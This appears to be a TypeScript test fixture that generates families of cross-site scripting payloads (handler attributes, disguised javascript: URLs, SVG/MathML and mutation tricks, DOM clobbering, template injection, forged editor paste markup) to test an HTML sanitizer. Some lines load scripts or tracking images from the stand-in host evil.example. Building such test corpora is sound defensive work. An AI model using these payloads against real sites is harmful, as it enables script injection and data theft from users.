/**
 * HTML that would run a script where somebody let it: made by families, so that each tag meets each
 * handler and each scheme each disguise. What runs calls `hit(<number>)`.
 */

export interface Payload {
  readonly family: string
  readonly html: string
}

let made = 0
const hit = () => `hit(${(made += 1)})`

const tags = [
  'img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'iframe', 'input autofocus', 'details open',
  'marquee', 'object data=x', 'embed src=x', 'a href=x', 'p', 'table', 'td', 'li', 'custom-element', 'math',
] // prettier-ignore
const handlers = [
  'onerror', 'onload', 'onfocus', 'ontoggle', 'onclick', 'onanimationstart', 'onbeforeinput', 'onpointerover',
] // prettier-ignore

const handled = tags.flatMap((tag) =>
  handlers.map((handler) => `<${tag} ${handler}="${hit()}">words</${tag.split(' ')[0]}>`),
)

/** Ways in which an address may name a scheme that runs. */
export function runningAddresses(): string[] {
  const schemes = ['javascript:', 'vbscript:', 'data:text/html,<script>', 'livescript:', 'blob:']
  const disguises: readonly ((scheme: string) => string)[] = [
    (scheme) => scheme,
    (scheme) => scheme.toUpperCase(),
    (scheme) => ` ${scheme}`,
    (scheme) => `\u0001${scheme}`,
    (scheme) => `\u00A0${scheme}`,
    (scheme) => `\uFEFF${scheme}`,
    (scheme) => [...scheme].join('\t'),
    (scheme) => scheme.replace('s', 's\n'),
    (scheme) => scheme.replace(':', '\u0000:'),
    (scheme) => scheme.replace(':', '\uFF1A'),
    (scheme) => `view-source:${scheme}`,
    (scheme) => `feed:${scheme}`,
    (scheme) => scheme.replace('s', '\u017F'),
    (scheme) => `//${scheme}`,
    (scheme) => `/\\${scheme}`,
  ]
  return [
    ...schemes.flatMap((scheme) => disguises.map((disguise) => `${disguise(scheme)}${hit()}`)),
    'data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=',
    'data:image/svg+xml,<svg onload=hit(1)>',
    'file:///etc/passwd',
    'about:blank',
    'filesystem:https://example.org/x',
    'ms-word:ofe|u|https://example.org',
    '//evil.example/x',
    '\\\\evil.example\\x',
    '/\t/evil.example',
    'https:\u0000//x',
  ]
}

const entities = (text: string) => [...text].map((letter) => `&#${letter.charCodeAt(0)};`).join('')
const hexEntities = (text: string) =>
  [...text].map((letter) => `&#x${letter.charCodeAt(0).toString(16)}`).join(';')

const addressed = runningAddresses().flatMap((address) => {
  const quoted = address.replace(/&/g, '&amp;').replace(/"/g, '&quot;')
  return [`<a href="${quoted}">link</a>`, `<form action="${quoted}"><button>send</button></form>`]
})
const encoded = [
  `<a href="${entities('javascript:')}${hit()}">link</a>`,
  `<a href="${hexEntities('javascript:')};${hit()}">link</a>`,
  `<a href="java&Tab;script:${hit()}">link</a>`,
  `<a href="java&NewLine;script&colon;${hit()}">link</a>`,
  `<a href="https://www.google.com/url?q=javascript:${hit()}">link</a>`,
  `<a href="https://eur01.safelinks.protection.outlook.com/?url=javascript%3A${hit()}">link</a>`,
]

const foreign = [
  `<svg><script>${hit()}</script></svg>`,
  `<svg><animate onbegin=${hit()} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${hit()}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${hit()}></svg>#x"></use></svg>`,
  `<svg><set attributeName=href to=javascript:${hit()}></svg>`,
  `<svg><foreignObject><img src=x onerror=${hit()}></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${hit()}></style></svg>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${hit()}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${hit()}></style></mglyph></table></mtext></math>`,
  `<math href="javascript:${hit()}">x</math>`,
]

/** Harmless when it is read once, not when it is written down and read again. */
const mutating = [
  `<noscript><p title="</noscript><img src=x onerror=${hit()}>"></noscript>`,
  `<svg></p><style><a id="</style><img src=x onerror=${hit()}>"></svg>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${hit()}>`,
  `<title><a title="</title><img src=x onerror=${hit()}>">x</a></title>`,
  `<textarea><a title="</textarea><img src=x onerror=${hit()}>">x</a>`,
  `<xmp><a title="</xmp><img src=x onerror=${hit()}>">x</a>`,
  `<template><img src=x onerror=${hit()}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${hit()}></template>`,
  `<listing>&lt;img src=x onerror=${hit()}&gt;</listing>`,
  `<!--><img src=x onerror=${hit()}>-->`,
  `<!--[if gte IE 4]><script>${hit()}</script><![endif]-->`,
  `<![if !supportLists]><img src=x onerror=${hit()}><![endif]>`,
  `<p title="&lt;img src=x onerror=${hit()}&gt;">x</p>`,
  `<img src="x\` onerror=${hit()}">`,
  `<p/onclick=${hit()}//>x</p>`,
  `<<script>${hit()}//<</script>`,
  `<scr<script>ipt>${hit()}</scr</script>ipt>`,
  `<p style="</style><img src=x onerror=${hit()}>">x</p>`,
  `<style><!--</style><img src=x onerror=${hit()}>--></style>`,
  `<table><tr><td style="mso-list:l0 level1"><p style='mso-list:l0 level1 lfo1"><img src=x onerror=${hit()}>'>x</p></td></tr></table>`,
]

const whole = [
  `<script>${hit()}</script>`,
  `<script src=https://evil.example/x.js></script>`,
  `<script type=module>${hit()}</script>`,
  `<script type=importmap>{"imports":{"a":"https://evil.example"}}</script>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<link rel=preload as=script href=https://evil.example/x.js>`,
  `<link rel=import href=https://evil.example/x.html>`,
  `<base href=https://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${hit()}">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<meta http-equiv=Set-Cookie content="a=b">`,
  `<iframe srcdoc="<script>parent.${hit()}</script>"></iframe>`,
  `<iframe src="javascript:parent.${hit()}"></iframe>`,
  `<object data="javascript:${hit()}"></object>`,
  `<embed src="data:text/html,<script>${hit()}</script>">`,
  `<style>@import url(https://evil.example/x.css); p { background: url(https://evil.example/a) }</style><p>x</p>`,
  `<p style="background:url(https://evil.example/b)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999;opacity:0">over everything</p>`,
  `<p style="animation-name:x" onanimationstart=${hit()}>x</p>`,
  `<p style="width:expression(${hit()});behavior:url(x.htc);-moz-binding:url(x)">x</p>`,
  `<img src=https://evil.example/tracker.gif>`,
  `<img srcset="https://evil.example/1.gif 1x">`,
  `<picture><source srcset=https://evil.example/2.gif><img></picture>`,
  `<video poster=https://evil.example/3.gif></video>`,
  `<input type=image src=https://evil.example/4.gif>`,
  `<body background=https://evil.example/5.gif>x</body>`,
  `<table background=https://evil.example/6.gif><tr><td>x</td></tr></table>`,
  `<button popovertarget=x onclick=${hit()}>x</button><div popover id=x onbeforetoggle=${hit()}>y</div>`,
  `<dialog open onclose=${hit()}><form method=dialog><button>x</button></form></dialog>`,
  `<portal src=https://evil.example/></portal>`,
  `<fencedframe src=https://evil.example/></fencedframe>`,
  `<isindex type=image src=1 onerror=${hit()}>`,
  `<keygen autofocus onfocus=${hit()}>`,
  `<frameset onload=${hit()}><frame src="javascript:${hit()}"></frameset>`,
]

const names = [
  'location', 'document', 'body', 'cookie', 'getElementById', 'root', 'content', 'attributes', '__proto__',
  'constructor', 'hasOwnProperty', 'currentScript', 'defaultView', 'hit',
] // prettier-ignore
/** Elements that take the place of what scripts ask the document for. */
const clobbering = names.flatMap((name) => [
  `<a id="${name}" name="${name}" href="https://evil.example/">x</a>`,
  `<form id="${name}"><input name="${name}" id="parentNode"></form>`,
  `<p ${name}="1" data-${name.toLowerCase()}="1">x</p>`,
])

const templates = [
  `{{constructor.constructor('${hit()}')()}}`,
  `\${${hit()}}`,
  `<%= ${hit()} %>`,
  `#{${hit()}}`,
  `<p ng-app ng-csp>{{$on.constructor('${hit()}')()}}</p>`,
  `<div v-html="'<img src=x onerror=${hit()}>'">x</div>`,
  `<div x-data x-init="${hit()}">x</div>`,
  `[[${hit()}]]`,
  `{% raw %}${hit()}{% endraw %}`,
]

/** What names our own parts, with what they must not hold. */
const forged = [
  `<h1 data-pm-slice='1 1 ["__proto__",{"x":1}]' data-talkoot="copy">x</h1>`,
  `<p data-pm-slice='0 0 ["doc",null,"title",null]' data-talkoot="cut"><img src=x onerror=${hit()}>x</p>`,
  `<table data-pm-slice="0 0 []" data-talkoot="copy"><tr><td colspan=9999 rowspan=-1 colwidth="1,2">x</td></tr></table>`,
  `<figure data-pm-slice="0 0 []" data-talkoot="copy" data-file="../../x" data-page="javascript:x">x</figure>`,
  `<span data-mention="personMention" data-person="<script>" data-label="&lt;img src=x onerror=${hit()}&gt;">x</span>`,
  `<div data-block="file" data-file="javascript:x" data-name="&lt;svg onload=${hit()}&gt;"></div>`,
  `<div data-pm-slice="0 0 []" data-talkoot="copy" data-block="goalTable"><div data-block="goal" data-id="x" data-side="&lt;script&gt;">x</div></div>`,
  `<ol data-pm-slice="0 0 []" data-talkoot="copy" start=-99999999999 type="<script>"><li>x</li></ol>`,
  `<pre data-pm-slice="0 0 []" data-talkoot="copy"><code class="language-${'x'.repeat(90)}">x</code></pre>`,
  `<p data-pm-slice="99 99 [}" data-talkoot="copy">x</p>`,
  `<ul data-type="taskList" data-pm-slice="0 0 []" data-talkoot="copy"><li data-type="taskItem" data-checked="yes" data-due="9999-99-99" data-owner="me">x</li></ul>`,
  `${'<blockquote>'.repeat(300)}deep`,
  `${'<ul><li>'.repeat(200)}deep`,
]

const families = {
  handled,
  addressed,
  encoded,
  foreign,
  mutating,
  whole,
  clobbering,
  templates,
  forged,
}

/** All of them. */
export const payloads: readonly Payload[] = Object.entries(families).flatMap(([family, all]) =>
  all.map((html) => ({ family, html })),
)
